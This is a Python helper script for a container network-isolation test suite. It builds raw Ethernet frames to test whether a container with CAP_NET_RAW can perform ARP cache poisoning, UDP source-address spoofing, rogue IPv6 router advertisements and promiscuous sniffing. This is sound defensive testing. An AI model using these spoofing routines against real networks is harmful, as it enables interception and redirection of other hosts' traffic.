#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The bridge attacks of a container with CAP_NET_RAW, for 20-netns.bats.

Writes whole Ethernet frames on IFACE (AF_PACKET), as a process in a
container's network namespace can:

  spoof.py arp IFACE ETH_SRC SENDER_MAC SENDER_IP TARGET_IP
      a broadcast ARP request "who has TARGET_IP, tell SENDER_IP at
      SENDER_MAC" (the target updates its entry for SENDER_IP)
  spoof.py udp IFACE ETH_SRC ETH_DST SRC_IP DST_IP PORT TEXT
      an IPv4 UDP datagram with any source address
  spoof.py ra IFACE ETH_SRC PREFIX
      an IPv6 router advertisement to all nodes: a default router and the
      autonomous prefix PREFIX::/64
  spoof.py listen-udp IP PORT SECONDS
      (on the host) prints what one UDP datagram to IP:PORT carries, or
      "nothing" after SECONDS
  spoof.py sniff IFACE SECONDS NEEDLE
      IFACE in promiscuous mode for SECONDS: prints "seen" when a frame
      carrying NEEDLE came by (for anyone), else "not seen"; "listening"
      first, once the socket is ready
"""
import socket
import struct
import sys


def mac(text):
    return bytes(int(b, 16) for b in text.split(":"))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def send(iface, frame):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    s.send(frame)
    s.close()


def arp(iface, eth_src, sender_mac, sender_ip, target_ip):
    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac(sender_mac),
                       socket.inet_aton(sender_ip), b"\0" * 6,
                       socket.inet_aton(target_ip))
    send(iface, b"\xff" * 6 + mac(eth_src) + b"\x08\x06" + body)


def udp(iface, eth_src, eth_dst, src_ip, dst_ip, port, text):
    payload = text.encode()
    u = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(u), 1, 0, 64, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    send(iface, mac(eth_dst) + mac(eth_src) + b"\x08\x00" + ip + u)


def ra(iface, eth_src, prefix):
    src = socket.inet_pton(socket.AF_INET6, "fe80::63:1")
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    pfx = socket.inet_pton(socket.AF_INET6, prefix + "::")
    opts = struct.pack("!BB6s", 1, 1, mac(eth_src))
    opts += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, pfx)
    icmp = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + opts
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(icmp), 58, 255, src, dst)
    send(iface, b"\x33\x33\x00\x00\x00\x01" + mac(eth_src) + b"\x86\xdd" + ip6 + icmp)


def listen_udp(ip, port, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, int(port)))
    s.settimeout(float(seconds))
    print("listening", flush=True)
    try:
        data, addr = s.recvfrom(2048)
        print("%s from %s" % (data.decode(errors="replace"), addr[0]), flush=True)
    except socket.timeout:
        print("nothing", flush=True)


def sniff(iface, seconds, needle):
    import time
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    index = socket.if_nametoindex(iface)
    # struct packet_mreq: ifindex, PACKET_MR_PROMISC, no address
    s.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
    print("listening", flush=True)
    end = time.monotonic() + float(seconds)
    while True:
        left = end - time.monotonic()
        if left <= 0:
            break
        s.settimeout(left)
        try:
            frame = s.recv(65535)
        except socket.timeout:
            break
        if needle.encode() in frame:
            print("seen", flush=True)
            return
    print("not seen", flush=True)


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    {"arp": arp, "udp": udp, "ra": ra, "listen-udp": listen_udp, "sniff": sniff}[cmd](*args)
